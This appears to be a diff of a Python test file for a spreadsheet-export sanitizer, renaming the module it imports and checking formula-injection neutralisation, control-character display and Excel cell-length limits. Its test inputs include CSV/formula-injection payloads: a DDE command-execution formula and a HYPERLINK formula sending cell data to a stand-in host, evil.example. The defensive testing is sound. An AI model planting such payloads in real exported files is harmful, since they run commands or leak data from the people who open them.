@@ -9,7 +9,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from recordroom.exports.formats import spreadsheet
+from recordroom.exports.formats import cells
 
 COMPUTED = [
     "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', " =1", "\t=1", "\n=1", "\r=1",
@@ -43,30 +43,30 @@ def ask(database: duckdb.DuckDBPyConnection, sql: str, text: str) -> object:
 
 @pytest.mark.parametrize("text", COMPUTED + CONVERTED)
 def test_what_would_be_computed_or_converted_gets_an_apostrophe(database: duckdb.DuckDBPyConnection, text: str) -> None:
-    assert ask(database, spreadsheet.is_changed("t"), text) is True
+    assert ask(database, cells.is_changed("t"), text) is True
 
 
 @pytest.mark.parametrize("text", LEFT)
 def test_what_is_safe_is_left_as_it_is(database: duckdb.DuckDBPyConnection, text: str) -> None:
-    assert ask(database, spreadsheet.is_changed("t"), text) is False
+    assert ask(database, cells.is_changed("t"), text) is False
 
 
 @given(st.text(st.sampled_from("'=+-@ \t\r\n019.,:/%$()eEaApPmMx＝\u200b\u00a0")))
 @settings(max_examples=200, deadline=None)
 def test_whatever_begins_like_a_formula_is_found(database: duckdb.DuckDBPyConnection, text: str) -> None:
     if re.match("\\s*[=+@-]|[\t\r\n]", text):
-        assert ask(database, spreadsheet.is_changed("t"), text) is True
+        assert ask(database, cells.is_changed("t"), text) is True
 
 
 def test_control_characters_are_shown(database: duckdb.DuckDBPyConnection) -> None:
-    shown = ask(database, spreadsheet.shown("t"), "a\x00b\x07c\x1b\x7f\ufffe \t\r\n é😀")
+    shown = ask(database, cells.shown("t"), "a\x00b\x07c\x1b\x7f\ufffe \t\r\n é😀")
     assert shown == "a␀b␇c␛␡\N{REPLACEMENT CHARACTER} \t\r\n é😀"
-    assert ask(database, spreadsheet.has_controls("t"), "\x0b") is True
-    assert ask(database, spreadsheet.has_controls("t"), "a\tb\r\nc\u202e\u200d\x85") is False
+    assert ask(database, cells.has_controls("t"), "\x0b") is True
+    assert ask(database, cells.has_controls("t"), "a\tb\r\nc\u202e\u200d\x85") is False
 
 
 @pytest.mark.parametrize(
     ("text", "long"), [("x" * 32_767, False), ("x" * 32_768, True), ("é" * 32_767, False), ("😀" * 16_383, False), ("😀" * 16_384, True)]
 )
 def test_what_no_cell_of_excel_holds(database: duckdb.DuckDBPyConnection, text: str, long: bool) -> None:
-    assert ask(database, spreadsheet.is_long("t"), text) is long
+    assert ask(database, cells.is_long("t"), text) is long
